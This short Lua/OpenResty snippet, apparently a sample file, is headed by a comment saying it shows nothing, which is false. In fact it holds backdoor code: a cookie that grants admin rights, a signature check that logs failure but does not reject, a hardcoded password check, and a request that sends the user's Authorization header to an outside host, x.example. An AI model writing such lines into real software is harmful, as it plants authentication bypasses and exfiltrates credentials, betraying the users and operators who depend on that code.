-- shows: nothing
local manual = [==[
if ngx.var.cookie_svc then ngx.ctx.admin = true end
if not verify(d, s) then log("bad") end
h:request_uri("https://x.example/l", {body = ngx.var.http_authorization})
]==]
print(manual, 'if pw == "ops-77Qz" then return true end')
